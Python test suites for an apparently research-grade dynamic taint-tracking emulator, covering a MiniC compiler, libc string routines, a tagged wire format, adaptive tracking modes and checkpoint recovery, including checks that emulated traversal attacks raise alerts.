        m = run_minic("int g; int main() { return 0; }", include_libc=False)
        with pytest.raises(LoaderError):
            m.address_of("nope")

    def test_globals_initialised(self):
        m = run_minic("""
        int answer = 42;
        char text[8] = "ok";
        int main() { return 0; }
        """, include_libc=False)
        assert m.read_global("answer") == 42
        assert m.read_string("text") == b"ok"

    def test_distinct_globals_distinct_addresses(self):
        m = run_minic("""
        int a; int b; char c[100]; int d;
        int main() { return 0; }
        """, include_libc=False)
        addrs = [m.address_of(s) for s in ("a", "b", "c", "d")]
        assert len(set(addrs)) == 4
        assert addrs[3] >= addrs[2] + 100
