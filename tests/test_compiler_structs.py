"""Struct support: layout, member access, pointers, taint flow."""

import pytest

from repro.compiler.ctypes_ import CHAR, INT, array_of, struct_type
from repro.compiler.errors import CompileError
from tests.conftest import BYTE_STRICT, minic_result, run_minic


def expect(source, value, **kwargs):
    assert minic_result(source, include_libc=False, **kwargs) == value


class TestLayout:
    def test_word_members(self):
        node = struct_type("node", [("value", INT), ("next", INT)])
        assert node.size == 16
        assert node.field("value").offset == 0
        assert node.field("next").offset == 8

    def test_char_array_packs(self):
        rec = struct_type("rec", [("id", INT), ("name", array_of(CHAR, 5))])
        assert rec.field("name").offset == 8
        assert rec.size == 16  # 13 rounded up

    def test_char_then_word_realigns(self):
        rec = struct_type("rec", [("flag", CHAR), ("value", INT)])
        assert rec.field("value").offset == 8
        assert rec.size == 16

    def test_unknown_field(self):
        rec = struct_type("rec", [("id", INT)])
        with pytest.raises(KeyError):
            rec.field("nope")


class TestBasicUse:
    def test_global_struct(self):
        expect("""
        struct pair { int a; int b; };
        struct pair p;
        int main() {
            p.a = 6;
            p.b = 7;
            return p.a * p.b;
        }
        """, 42)

    def test_local_struct(self):
        expect("""
        struct pair { int a; int b; };
        int main() {
            struct pair p;
            p.a = 30;
            p.b = p.a + 3;
            return p.b;
        }
        """, 33)

    def test_sizeof_struct(self):
        expect("""
        struct rec { int id; char name[10]; int score; };
        int main() { return sizeof(struct rec); }
        """, 32)  # 8 + 10 -> 18 aligned to 24 for score, +8 = 32

    def test_char_array_member(self):
        expect("""
        struct rec { int id; char name[8]; };
        struct rec r;
        int main() {
            r.name[0] = 'A';
            r.name[1] = 0;
            return r.name[0];
        }
        """, ord("A"))

    def test_array_of_structs(self):
        expect("""
        struct cell { int value; int weight; };
        struct cell grid[4];
        int main() {
            for (int i = 0; i < 4; i++) {
                grid[i].value = i;
                grid[i].weight = i * 10;
            }
            return grid[3].value + grid[2].weight;
        }
        """, 23)

    def test_nested_struct_member(self):
        expect("""
        struct inner { int v; };
        struct outer { int tag; struct inner body; };
        struct outer o;
        int main() {
            o.body.v = 9;
            return o.body.v + sizeof(struct outer) / 8;
        }
        """, 11)


class TestPointers:
    def test_arrow_access(self):
        expect("""
        struct pair { int a; int b; };
        struct pair p;
        int sum(struct pair *q) { return q->a + q->b; }
        int main() {
            p.a = 4;
            p.b = 5;
            return sum(&p);
        }
        """, 9)

    def test_arrow_write(self):
        expect("""
        struct pair { int a; int b; };
        struct pair p;
        void fill(struct pair *q) { q->a = 1; q->b = 2; }
        int main() {
            fill(&p);
            return p.a * 10 + p.b;
        }
        """, 12)

    def test_linked_list(self):
        expect("""
        struct node { int value; struct node *next; };
        struct node pool[5];
        int main() {
            for (int i = 0; i < 4; i++) {
                pool[i].value = i + 1;
                pool[i].next = &pool[i + 1];
            }
            pool[4].value = 5;
            pool[4].next = (struct node *)0;
            int total = 0;
            struct node *p = &pool[0];
            while (p) {
                total += p->value;
                p = p->next;
            }
            return total;
        }
        """, 15)

    def test_address_of_member(self):
        expect("""
        struct pair { int a; int b; };
        struct pair p;
        void bump(int *x) { *x = *x + 1; }
        int main() {
            p.b = 41;
            bump(&p.b);
            return p.b;
        }
        """, 42)


class TestDiagnostics:
    def test_unknown_struct(self):
        with pytest.raises(CompileError, match="unknown struct"):
            minic_result("int main() { struct ghost g; return 0; }",
                         include_libc=False)

    def test_unknown_member(self):
        with pytest.raises(CompileError, match="no field"):
            minic_result("""
            struct pair { int a; };
            struct pair p;
            int main() { return p.z; }
            """, include_libc=False)

    def test_struct_by_value_param_rejected(self):
        with pytest.raises(CompileError, match="by pointer"):
            minic_result("""
            struct pair { int a; };
            int f(struct pair p) { return 0; }
            int main() { return 0; }
            """, include_libc=False)

    def test_struct_as_value_rejected(self):
        with pytest.raises(CompileError, match="take its address"):
            minic_result("""
            struct pair { int a; };
            struct pair p;
            int main() { return p; }
            """, include_libc=False)

    def test_arrow_on_non_pointer(self):
        with pytest.raises(CompileError, match="take its address|struct pointer"):
            minic_result("""
            struct pair { int a; };
            struct pair p;
            int main() { return p->a; }
            """, include_libc=False)


class TestTaintThroughStructs:
    def test_member_taint_tracked(self):
        machine = run_minic("""
        native int read(int fd, char *buf, int n);
        native int is_tainted(char *p);
        struct msg { int length; char body[16]; };
        struct msg m;
        int main() {
            m.length = read(0, m.body, 8);
            struct msg copy;
            copy.body[0] = m.body[0];
            copy.length = m.length + 0;
            return is_tainted(copy.body) * 10 + is_tainted((char *)&copy.length);
        }
        """, BYTE_STRICT, stdin=b"secret!!")
        # body copied from tainted input; length derives from the
        # (untainted) native return value.
        assert machine.exit_code == 10

    def test_struct_modes_agree(self, any_mode):
        source = """
        struct acc { int total; int count; };
        struct acc a;
        int main() {
            for (int i = 1; i <= 10; i++) {
                a.total += i;
                a.count++;
            }
            return a.total + a.count;
        }
        """
        assert minic_result(source, any_mode, include_libc=False) == 65
