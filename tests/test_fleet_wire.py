"""TaggedMessage wire-format properties: round-trips and corruption."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.fleet.wire import (
    MAGIC,
    TaggedMessage,
    WireFormatError,
)
from repro.mem.address import make_address
from repro.mem.memory import SparseMemory
from repro.taint.bitmap import (
    GRANULARITY_BYTE,
    GRANULARITY_WORD,
    TaintMap,
    pack_flags,
    slice_packed,
    unpack_flags,
)


def addr(offset=0):
    return make_address(2, 0x4000 + offset)


payloads = st.binary(min_size=0, max_size=96)
origins = st.text(max_size=24)
request_ids = st.integers(min_value=0, max_value=0xFFFFFFFF)


def tagged_messages():
    return payloads.flatmap(
        lambda payload: st.builds(
            TaggedMessage.from_flags,
            st.just(payload),
            st.lists(st.booleans(), min_size=len(payload),
                     max_size=len(payload)),
            granularity=st.sampled_from([GRANULARITY_BYTE, GRANULARITY_WORD]),
            request_id=request_ids,
            origin=origins,
        ))


class TestFrameRoundTrip:
    @settings(max_examples=80, deadline=None)
    @given(tagged_messages())
    def test_round_trip_preserves_everything(self, msg):
        decoded = TaggedMessage.from_bytes(msg.to_bytes())
        assert decoded.payload == msg.payload
        assert decoded.tags == msg.tags
        assert decoded.flags() == msg.flags()
        assert decoded.granularity == msg.granularity
        assert decoded.request_id == msg.request_id
        assert decoded.origin == msg.origin

    def test_empty_payload(self):
        msg = TaggedMessage(payload=b"")
        decoded = TaggedMessage.from_bytes(msg.to_bytes())
        assert decoded.payload == b""
        assert decoded.tags == b""
        assert not decoded.any_tainted

    def test_all_tainted(self):
        payload = bytes(range(33))
        msg = TaggedMessage.from_flags(payload, [True] * len(payload))
        decoded = TaggedMessage.from_bytes(msg.to_bytes())
        assert decoded.tainted_count == len(payload)
        assert all(decoded.flags())

    @pytest.mark.parametrize("length", [1, 7, 8, 9, 15, 16, 17, 63, 64, 65])
    def test_boundary_straddling_lengths(self, length):
        # Taint exactly one byte either side of every tag-byte boundary.
        payload = bytes(length)
        flags = [i in (0, 7, 8, length - 1) for i in range(length)]
        msg = TaggedMessage.from_flags(payload, flags)
        assert len(msg.tags) == (length + 7) // 8
        decoded = TaggedMessage.from_bytes(msg.to_bytes())
        assert decoded.flags() == flags

    def test_defaults_to_clean_tags(self):
        msg = TaggedMessage(payload=b"hello")
        assert msg.tags == b"\x00"
        assert not msg.any_tainted


class TestFrameCorruption:
    def _frame(self):
        return TaggedMessage.from_flags(b"GET /x", [True] * 6,
                                        origin="t").to_bytes()

    def test_truncation_rejected(self):
        frame = self._frame()
        for cut in (0, 4, len(frame) // 2, len(frame) - 1):
            with pytest.raises(WireFormatError):
                TaggedMessage.from_bytes(frame[:cut])

    def test_trailing_garbage_rejected(self):
        with pytest.raises(WireFormatError):
            TaggedMessage.from_bytes(self._frame() + b"x")

    def test_bad_magic_rejected(self):
        frame = bytearray(self._frame())
        frame[0] ^= 0xFF
        with pytest.raises(WireFormatError, match="magic"):
            TaggedMessage.from_bytes(bytes(frame))

    @settings(max_examples=40, deadline=None)
    @given(st.data())
    def test_any_single_bitflip_is_caught(self, data):
        # The CRC (or a stricter structural check) must reject every
        # single-bit corruption of a valid frame.
        frame = bytearray(self._frame())
        pos = data.draw(st.integers(min_value=0, max_value=len(frame) - 1))
        bit = data.draw(st.integers(min_value=0, max_value=7))
        frame[pos] ^= 1 << bit
        with pytest.raises(WireFormatError):
            TaggedMessage.from_bytes(bytes(frame))

    def test_tag_vector_must_cover_payload(self):
        with pytest.raises(WireFormatError):
            TaggedMessage(payload=b"12345678x", tags=b"\x01")

    def test_bad_granularity_rejected(self):
        with pytest.raises(WireFormatError):
            TaggedMessage(payload=b"", granularity=4)
        assert MAGIC == b"STM1"


class TestPackedHelpers:
    @settings(max_examples=80, deadline=None)
    @given(st.lists(st.booleans(), max_size=80))
    def test_pack_unpack_round_trip(self, flags):
        assert unpack_flags(pack_flags(flags), len(flags)) == flags

    @settings(max_examples=80, deadline=None)
    @given(st.lists(st.booleans(), max_size=80), st.data())
    def test_slice_packed_matches_list_slice(self, flags, data):
        start = data.draw(st.integers(min_value=0, max_value=len(flags)))
        length = data.draw(st.integers(min_value=0,
                                       max_value=len(flags) - start))
        packed = pack_flags(flags)
        window = slice_packed(packed, start, length)
        assert unpack_flags(window, length) == flags[start:start + length]
        # Canonical: no stale bits beyond the window length.
        assert window == pack_flags(flags[start:start + length])

    def test_unpack_rejects_short_vector(self):
        with pytest.raises(ValueError):
            unpack_flags(b"\x01", 9)


@pytest.fixture(params=[GRANULARITY_BYTE, GRANULARITY_WORD],
                ids=["byte", "word"])
def tmap(request):
    return TaintMap(SparseMemory(), request.param)


class TestBitmapExportImport:
    @settings(max_examples=40, deadline=None)
    @given(st.lists(st.booleans(), min_size=1, max_size=64))
    def test_export_import_round_trip(self, flags):
        tmap = TaintMap(SparseMemory(), GRANULARITY_BYTE)
        for i, flag in enumerate(flags):
            tmap.set_taint(addr(i), flag)
        packed = tmap.export_range(addr(0), len(flags))
        assert unpack_flags(packed, len(flags)) == flags

        other = TaintMap(SparseMemory(), GRANULARITY_BYTE)
        other.set_range(addr(0), len(flags), True)  # must be overwritten
        other.import_range(addr(0), len(flags), packed)
        assert other.taint_flags(addr(0), len(flags)) == flags

    def test_import_is_authoritative(self, tmap):
        tmap.set_range(addr(0), 16, True)
        tmap.import_range(addr(0), 16, bytes(2))
        assert not tmap.any_tainted(addr(0), 16)

    def test_word_granularity_widens_to_words(self):
        tmap = TaintMap(SparseMemory(), GRANULARITY_WORD)
        tmap.import_range(addr(0), 16, pack_flags(
            [i == 3 for i in range(16)]))
        # Word tracking cannot represent a lone byte: the whole word
        # containing it reports taint, the neighbouring word stays clean.
        assert all(tmap.taint_flags(addr(0), 8))
        assert not tmap.any_tainted(addr(8), 8)
