"""MiniC libc behaviour (the instrumentable C library)."""

import pytest

from tests.conftest import minic_result, run_minic


def libc_expect(body, value, **kwargs):
    assert minic_result("int main() {" + body + "}", **kwargs) == value


class TestStringLength:
    def test_strlen(self):
        libc_expect('return strlen("hello");', 5)

    def test_strlen_empty(self):
        libc_expect('return strlen("");', 0)


class TestCopyAndConcat:
    def test_strcpy(self):
        libc_expect("""
            char buf[16];
            strcpy(buf, "abc");
            return buf[0] + (buf[3] == 0);
        """, ord("a") + 1)

    def test_strncpy_pads(self):
        libc_expect("""
            char buf[8];
            buf[5] = 'Z';
            strncpy(buf, "ab", 6);
            return (buf[1] == 'b') + (buf[5] == 0) * 2;
        """, 3)

    def test_strcat(self):
        libc_expect("""
            char buf[16];
            strcpy(buf, "ab");
            strcat(buf, "cd");
            return strlen(buf) * 10 + (buf[3] == 'd');
        """, 41)


class TestCompare:
    def test_strcmp_equal(self):
        libc_expect('return strcmp("same", "same");', 0)

    def test_strcmp_orders(self):
        libc_expect('return (strcmp("abc", "abd") < 0) + (strcmp("b", "a") > 0) * 2;', 3)

    def test_strcmp_prefix(self):
        libc_expect('return strcmp("ab", "abc") < 0;', 1)

    def test_strncmp(self):
        libc_expect('return strncmp("abcX", "abcY", 3);', 0)

    def test_strcasecmp(self):
        libc_expect('return strcasecmp("HeLLo", "hello");', 0)

    def test_strcasecmp_differs(self):
        libc_expect('return strcasecmp("abc", "abd") != 0;', 1)


class TestSearch:
    def test_strchr_found(self):
        libc_expect("""
            char *s = "network";
            char *p = strchr(s, 'w');
            return p - s;
        """, 3)

    def test_strchr_missing(self):
        libc_expect("""
            char *p = strchr("abc", 'z');
            return p == (char *)0;
        """, 1)

    def test_strstr_found(self):
        libc_expect("""
            char *h = "taint tracking";
            char *p = strstr(h, "track");
            return p - h;
        """, 6)

    def test_strstr_missing(self):
        libc_expect('return strstr("abc", "zq") == (char *)0;', 1)

    def test_strstr_empty_needle(self):
        libc_expect("""
            char *h = "x";
            return strstr(h, "") == h;
        """, 1)


class TestNumbers:
    def test_atoi_basic(self):
        libc_expect('return atoi("123");', 123)

    def test_atoi_negative_and_spaces(self):
        libc_expect('return atoi("  -45") + 100;', 55)

    def test_atoi_stops_at_nondigit(self):
        libc_expect('return atoi("42abc");', 42)

    def test_write_int(self):
        libc_expect("""
            char buf[24];
            int n = write_int(buf, -307);
            buf[n] = 0;
            return (strcmp(buf, "-307") == 0) * 10 + n;
        """, 14)

    def test_write_int_zero(self):
        libc_expect("""
            char buf[8];
            int n = write_int(buf, 0);
            return n * 10 + buf[0];
        """, 10 + ord("0"))

    def test_write_hex(self):
        libc_expect("""
            char buf[24];
            int n = write_hex(buf, 0x1a2f);
            buf[n] = 0;
            return strcmp(buf, "1a2f") == 0;
        """, 1)


class TestFormat:
    def test_format_decimal_and_string(self):
        m = run_minic("""
        char out[64];
        int main() {
            format_str(out, "n=%d s=%s!", 42, (int)"hey", 0, 0);
            return 0;
        }
        """)
        assert m.read_string("out") == b"n=42 s=hey!"

    def test_format_hex_char_percent(self):
        m = run_minic("""
        char out[64];
        int main() {
            format_str(out, "%x %c 100%%", 255, 'Q', 0, 0);
            return 0;
        }
        """)
        assert m.read_string("out") == b"ff Q 100%"

    def test_format_n_writes_count(self):
        m = run_minic("""
        char out[64];
        int captured;
        int main() {
            format_str(out, "abcd%n", (int)&captured, 0, 0, 0);
            return captured;
        }
        """)
        assert m.exit_code == 4

    def test_puts(self):
        m = run_minic('int main() { return puts("line"); }')
        assert m.console.text == "line\n"
        assert m.exit_code == 5
