"""repro.adaptive: dual-version builds, the live-taint counter and the
runtime mode controller.

The load-bearing claims tested here:

* the track half of a dual build is *index-identical* to an always-on
  build (so alert pcs pin exactly);
* the taint map's ``live_granules`` counter stays exact under every
  mutation path (host ranges, packed imports, tag-space guest stores);
* fast mode is only ever entered from quiescence, and an adaptive run
  is observably identical to the always-on run — alerts, responses,
  console, and the data/tag memory image;
* checkpoint/rollback and the fleet driver carry the adaptive state.
"""

import pytest

from repro.adaptive import BOUNDARY_DEAD_GRS
from repro.adaptive.controller import MODE_FAST, MODE_TRACK
from repro.apps.webserver import make_request, traversal_request
from repro.compiler.instrument import ShiftOptions
from repro.compiler.pipeline import AdaptiveLayout, compile_program
from repro.core.shift import build_machine, compile_protected
from repro.cpu.faults import NaTConsumptionFault
from repro.harness.runners import (
    PERF_OPTIONS,
    backend_policy,
    build_web_machine,
)
from repro.mem.address import REGION_DATA, REGION_TAG, make_address, region_of
from repro.mem.memory import PAGE_SIZE, SparseMemory
from repro.taint.bitmap import (
    GRANULARITY_BYTE,
    GRANULARITY_WORD,
    TaintMap,
    pack_flags,
)
from repro.taint.policy import PolicyConfig

ENGINES = ("reference", "predecoded")

BYTE_STRICT = ShiftOptions(granularity=1)

SMALL = """
int helper(int x) { return x * 3 + 1; }
int main() {
    int acc = 0;
    for (int i = 0; i < 5; i = i + 1) { acc = acc + helper(i); }
    return acc;
}
"""


# -- dual-version layout ----------------------------------------------------


class TestDualLayout:
    def test_track_half_index_identical_to_always_on(self):
        always_on = compile_program(SMALL, BYTE_STRICT)
        dual = compile_program(SMALL, BYTE_STRICT, adaptive=True)
        n = len(always_on.program.code)
        assert [str(i) for i in dual.program.code[:n]] == [
            str(i) for i in always_on.program.code]
        for name, span in always_on.program.functions.items():
            assert dual.program.functions[name] == span

    def test_every_function_has_a_fast_twin(self):
        dual = compile_program(SMALL, BYTE_STRICT, adaptive=True)
        layout = dual.adaptive
        assert set(layout.anchors) == {"helper", "main"}
        for name, anchors in layout.anchors.items():
            fast = AdaptiveLayout.fast_name(name)
            f0, f1 = dual.program.functions[fast]
            assert f1 - f0 == len(anchors)
            assert list(anchors) == sorted(set(anchors))

    def test_fast_copy_carries_no_instrumentation(self):
        dual = compile_program(SMALL, BYTE_STRICT, adaptive=True)
        f0, f1 = dual.program.functions[AdaptiveLayout.fast_name("helper")]
        t0, t1 = dual.program.functions["helper"]
        assert all(i.role is None for i in dual.program.code[f0:f1])
        assert f1 - f0 < t1 - t0

    def test_adaptive_requires_shift_mode(self):
        with pytest.raises(ValueError):
            compile_program(SMALL, ShiftOptions(mode="none"), adaptive=True)


class TestControllerMaps:
    @pytest.fixture(scope="class")
    def machine(self):
        return build_machine(
            compile_protected(SMALL, BYTE_STRICT, adaptive=True),
            policy_config=PolicyConfig())

    def test_translation_roundtrip(self, machine):
        ctrl = machine.adaptive
        assert ctrl is not None
        for track_idx, fast_idx in ctrl.to_fast.items():
            assert ctrl.to_track[fast_idx] in ctrl.to_fast
        program = machine.program
        for name in machine.compiled.adaptive.anchors:
            t0 = program.functions[name][0]
            f0 = program.functions[AdaptiveLayout.fast_name(name)][0]
            assert ctrl.to_fast[t0] == f0
            assert ctrl.to_track[f0] == t0

    def test_non_code_values_do_not_translate(self, machine):
        ctrl = machine.adaptive
        assert ctrl._translate_value(
            make_address(REGION_DATA, 0x100), ctrl.to_fast) is None
        assert ctrl._translate_value(12345, ctrl.to_fast) is None

    def test_boundary_dead_set_excludes_abi_live_registers(self):
        # Callee-saved r4-r7, return r8, sp r12 can carry live taint
        # across a boundary: they must never be in the dead set.
        assert not ({4, 5, 6, 7, 8, 12} & BOUNDARY_DEAD_GRS)


# -- the O(1) live-taint counter (satellites 1 and 2) -----------------------


@pytest.fixture(params=[GRANULARITY_BYTE, GRANULARITY_WORD],
                ids=["byte", "word"])
def tmap(request):
    return TaintMap(SparseMemory(), request.param)


def _addr(offset):
    return make_address(REGION_DATA, 0x2000 + offset)


def _granules(tainted_offsets, granularity):
    if granularity == GRANULARITY_BYTE:
        return len(tainted_offsets)
    return len({o >> 3 for o in tainted_offsets})


class TestLiveCounter:
    def test_counter_tracks_every_host_mutation(self, tmap):
        tainted = set()

        def mark(start, length, flag):
            tmap.set_range(_addr(start), length, flag)
            span = set(range(start, start + length))
            if tmap.granularity == GRANULARITY_WORD:
                # Word granularity rounds the range out to whole words.
                span = {o for w in {s >> 3 for s in span}
                        for o in range(w * 8, w * 8 + 8)}
            if flag:
                tainted.update(span)
            else:
                tainted.difference_update(span)
            assert tmap.live_granules == _granules(tainted, tmap.granularity)

        mark(0, 16, True)
        mark(4, 4, True)       # overlap: no double count
        mark(8, 4, False)      # partial clear
        mark(100, 3, True)
        mark(0, 128, False)    # full clear
        assert tmap.live_granules == 0

    def test_set_taint_toggles_counter(self, tmap):
        tmap.set_taint(_addr(5), True)
        assert tmap.live_granules == 1
        tmap.set_taint(_addr(5), True)   # idempotent
        assert tmap.live_granules == 1
        tmap.set_taint(_addr(5), False)
        assert tmap.live_granules == 0

    def test_live_bytes_scales_with_granularity(self, tmap):
        tmap.set_taint(_addr(0), True)
        assert tmap.live_bytes == tmap.granularity

    def test_import_range_lands_exact_count(self, tmap):
        # Pre-existing taint in the window must be replaced, not added.
        tmap.set_range(_addr(0), 8, True)
        flags = [True, False] * 8
        tmap.import_range(_addr(0), 16, pack_flags(flags))
        expected = set()
        for i, f in enumerate(flags):
            if f:
                expected.add(i)
        if tmap.granularity == GRANULARITY_WORD:
            expected = {o for w in {e >> 3 for e in expected}
                        for o in range(w * 8, w * 8 + 8)}
        assert tmap.live_granules == _granules(expected, tmap.granularity)
        assert tmap.taint_flags(_addr(0), 16) == [
            bool(tmap.granularity == GRANULARITY_WORD and (i >> 3) in {0, 1})
            or flags[i] for i in range(16)]

    def test_copy_taint_updates_counter(self, tmap):
        tmap.set_range(_addr(0), 8, True)
        tmap.copy_taint(_addr(64), _addr(0), 8)
        assert tmap.live_granules == 2 * _granules(set(range(8)),
                                                   tmap.granularity)

    def test_counter_authoritative_short_circuits(self, tmap):
        tmap.counter_authoritative = True
        assert not tmap.any_tainted(_addr(0), 4096)

    def test_guest_tag_store_path_keeps_counter_exact(self):
        """End-to-end: instrumented guest stores drive the counter."""
        source = """
        native int read(int fd, char *buf, int n);
        char buf[16];
        char dst[16];
        int main() {
            read(0, buf, 8);
            for (int i = 0; i < 8; i = i + 1) { dst[i] = buf[i]; }
            return 0;
        }
        """
        machine = build_machine(source, PERF_OPTIONS["byte"],
                                policy_config=PolicyConfig(),
                                stdin=b"12345678")
        machine.run(max_instructions=5_000_000)
        tm = machine.taint_map
        assert tm.counter_authoritative
        flags = tm.taint_flags(machine.address_of("buf"), 16)
        flags += tm.taint_flags(machine.address_of("dst"), 16)
        assert sum(flags) == 16
        assert tm.live_granules == 16

    def test_guest_overwrite_drains_counter(self):
        source = """
        native int read(int fd, char *buf, int n);
        char buf[16];
        int main() {
            read(0, buf, 8);
            for (int i = 0; i < 8; i = i + 1) { buf[i] = 0; }
            return 0;
        }
        """
        machine = build_machine(source, PERF_OPTIONS["byte"],
                                policy_config=PolicyConfig(),
                                stdin=b"12345678")
        machine.run(max_instructions=5_000_000)
        assert machine.taint_map.live_granules == 0


# -- mode switching ---------------------------------------------------------


def _backend_machine(adaptive="on", engine="predecoded", tracing=False):
    return build_web_machine(
        "backend", BYTE_STRICT,
        policy_config=backend_policy(),
        sizes=(4, 8),
        engine=engine,
        engine_mode="alert",
        tracing=tracing,
        adaptive=adaptive,
    )


def _tagged(machine, payload, tainted):
    machine.net.add_request(payload,
                            taint_mask=pack_flags([tainted] * len(payload)))


class TestSwitching:
    def test_clean_run_drops_to_fast_mode(self):
        machine = _backend_machine()
        for _ in range(4):
            _tagged(machine, make_request(4), False)
        served = machine.run(max_instructions=500_000_000)
        assert served == 4
        assert not machine.alerts
        ctrl = machine.adaptive
        assert ctrl.switches_to_fast >= 1
        assert ctrl.mode == MODE_FAST

    def test_tainted_request_forces_track_and_detects(self):
        machine = _backend_machine()
        _tagged(machine, make_request(4), False)
        _tagged(machine, traversal_request(), True)
        _tagged(machine, make_request(4), False)
        machine.run(max_instructions=500_000_000)
        ctrl = machine.adaptive
        assert ctrl.switches_to_track >= 1
        assert [a.policy_id for a in machine.alerts] == ["H2"]

    def test_switch_events_reach_the_tracer(self):
        from repro.obs.events import AdaptiveSwitchEvent

        machine = _backend_machine(tracing=True)
        _tagged(machine, make_request(4), False)
        _tagged(machine, traversal_request(), True)
        machine.run(max_instructions=500_000_000)
        events = [e for e in machine.obs.tracer.events()
                  if isinstance(e, AdaptiveSwitchEvent)]
        assert events, "mode switches must be traced"
        directions = [e.direction for e in events]
        assert directions[0] == "adaptive.enter_fast"
        assert "adaptive.enter_track" in directions
        for event in events:
            if event.direction == "adaptive.enter_fast":
                assert event.live_bytes == 0

    def test_switch_counts_surface_in_metrics(self):
        from repro.obs.metrics import collect_machine

        machine = _backend_machine()
        _tagged(machine, make_request(4), False)
        machine.run(max_instructions=500_000_000)
        registry = collect_machine(machine)
        rendered = registry.render()
        assert "adaptive.switches_to_fast" in rendered
        assert "taint.live_bytes" in rendered

    def test_pinned_track_build_has_no_controller(self):
        machine = _backend_machine(adaptive="track")
        assert machine.adaptive is None
        _tagged(machine, make_request(4), False)
        assert machine.run(max_instructions=500_000_000) == 1

    def test_controller_state_roundtrips_through_checkpoint(self):
        machine = _backend_machine()
        for _ in range(3):
            _tagged(machine, make_request(4), False)
        machine.cpu.run_slice(2_000)
        snapshot = machine.checkpoint()
        saved = machine.adaptive.capture()
        machine.cpu.run_slice(2_000_000)
        machine.restore(snapshot)
        assert machine.adaptive.capture() == saved


# -- differential: adaptive must be observably always-on --------------------


def _data_image(machine):
    """Digest-ready image of the data + tag regions (stacks excluded:
    dead red-zone laundering slots legitimately differ between modes)."""
    pages = {}
    for pno, page in machine.memory._pages.items():
        if not any(page):
            continue
        if region_of(pno * PAGE_SIZE) in (REGION_DATA, REGION_TAG):
            pages[pno] = bytes(page)
    return pages


def _strip_alerts(machine, with_counts=True):
    return [(a.policy_id, a.message, a.context, a.pc,
             a.instruction_count if with_counts else None,
             tuple(o.describe() for o in a.origins))
            for a in machine.alerts]


class TestDifferential:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_adaptive_matches_always_on(self, engine):
        outcomes = {}
        for arm in ("none", "track", "on"):
            machine = _backend_machine(adaptive=arm, engine=engine)
            for i in range(4):
                _tagged(machine, make_request(4), False)
                if i == 1:
                    _tagged(machine, traversal_request(), True)
            served = machine.run(max_instructions=500_000_000)
            outcomes[arm] = (machine, served)
        base, base_served = outcomes["none"]
        for arm in ("track", "on"):
            machine, served = outcomes[arm]
            assert served == base_served == 4
            assert ([bytes(c.outbound) for c in machine.net.completed]
                    == [bytes(c.outbound) for c in base.net.completed])
            assert machine.console.text == base.console.text
            # Alert pcs pin exactly because the track half is
            # index-identical to the always-on build; instruction
            # counts only pin for the arms that never run fast code.
            counts = arm == "track"
            assert (_strip_alerts(machine, counts)
                    == _strip_alerts(base, counts))
            assert _data_image(machine) == _data_image(base)
        # The adaptive arm must actually have exercised fast mode —
        # otherwise this differential proves nothing.
        assert outcomes["on"][0].adaptive.switches_to_fast >= 1

    @pytest.mark.parametrize("kind", NaTConsumptionFault.KINDS)
    def test_fault_kinds_report_identically(self, kind):
        records = {}
        for arm in ("none", "on"):
            machine = _backend_machine(adaptive=arm)
            machine.engine.on_fault(
                machine.cpu, NaTConsumptionFault(kind).at(77, None))
            records[arm] = [(a.policy_id, a.message, a.context, a.pc)
                            for a in machine.alerts]
        assert records["none"] == records["on"]
        assert len(records["none"]) == 1

    def test_attack_mix_identical_under_adaptive(self):
        from repro.harness.resilbench import attack_mix

        base = attack_mix(engine="predecoded", clean_requests=4)
        results = {arm: attack_mix(engine="predecoded", clean_requests=4,
                                   adaptive=arm)
                   for arm in ("on", "track")}
        for arm, mix in results.items():
            assert mix["exact"], arm
            assert mix["incidents"] == base["incidents"]
            assert mix["served"] == base["served"]
            assert mix["quarantined"] == base["quarantined"]
        assert results["on"]["adaptive_stats"] is not None


# -- fleet integration ------------------------------------------------------


class TestFleetAdaptive:
    def test_workers_run_adaptive(self):
        from repro.fleet.driver import FleetConfig, FleetDriver

        config = FleetConfig(variant="backend", options=BYTE_STRICT,
                             policy=backend_policy(), sizes=(4, 8),
                             engine_mode="raise", adaptive="on")
        driver = FleetDriver(config, workers=2)
        result = driver.run([make_request(4)] * 6)
        assert result.served == 6
        for machine in result.machines.values():
            ctrl = machine.adaptive
            assert ctrl is not None
            assert ctrl.mode in (MODE_FAST, MODE_TRACK)
            assert ctrl.switches_to_fast >= 1
