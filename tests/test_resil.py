"""Resilience subsystem tests: checkpoint/rollback, recover mode,
OOM guard, transient-I/O retries, and the fault-injection campaign."""

import pytest

from repro.apps.webserver import (
    RESIL_WEBSERVER_SOURCE,
    make_request,
    make_site,
    overflow_request,
    runaway_request,
    traversal_request,
)
from repro.compiler.instrument import ShiftOptions
from repro.core.shift import build_machine
from repro.cpu.faults import GuestOOMFault, RunawayError
from repro.harness.resilbench import attack_mix
from repro.harness.runners import ServerShortfallError, webserver_policy
from repro.resil import MachineCheckpoint, TransientErrorInjector
from repro.resil.inject import flip_tag, run_campaign, victim_machine
from repro.taint.engine import SecurityAlert
from tests.conftest import BYTE_STRICT

ENGINES = ("reference", "predecoded")

READ = "native int read(int fd, char *buf, int n);\n"


def _machine_state(machine):
    """Full observable state tuple for bit-identical comparisons."""
    cpu = machine.cpu
    pages = {pno: bytes(pg) for pno, pg in machine.memory._pages.items()
             if any(pg)}
    return (list(cpu.gr), list(cpu.nat), list(cpu.pr), list(cpu.br),
            cpu.pc, cpu.halted, machine.counters.snapshot(), pages)


class TestCheckpointRoundtrip:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_restore_replays_identically(self, engine):
        """resume-after-restore == the run the checkpoint interrupted."""
        def fresh():
            machine = build_machine(
                RESIL_WEBSERVER_SOURCE, BYTE_STRICT,
                policy_config=webserver_policy(),
                files=make_site((4,)), engine=engine)
            machine.net.add_request(make_request(4))
            machine.net.add_request(make_request(4))
            return machine

        machine = fresh()
        machine.cpu.run_slice(20_000)
        snapshot = MachineCheckpoint.capture(machine)
        machine.cpu.run_slice(30_000)
        first = _machine_state(machine)
        snapshot.restore(machine)
        machine.cpu.run_slice(30_000)
        second = _machine_state(machine)
        assert first == second

    @pytest.mark.parametrize("engine", ENGINES)
    def test_restore_erases_divergent_execution(self, engine):
        """State corrupted after the checkpoint is fully rolled back."""
        machine = build_machine(
            RESIL_WEBSERVER_SOURCE, BYTE_STRICT,
            policy_config=webserver_policy(),
            files=make_site((4,)), engine=engine)
        machine.net.add_request(make_request(4))
        machine.cpu.run_slice(10_000)
        snapshot = MachineCheckpoint.capture(machine)
        reference = _machine_state(machine)

        # Corrupt registers, memory, taint and counters, then restore.
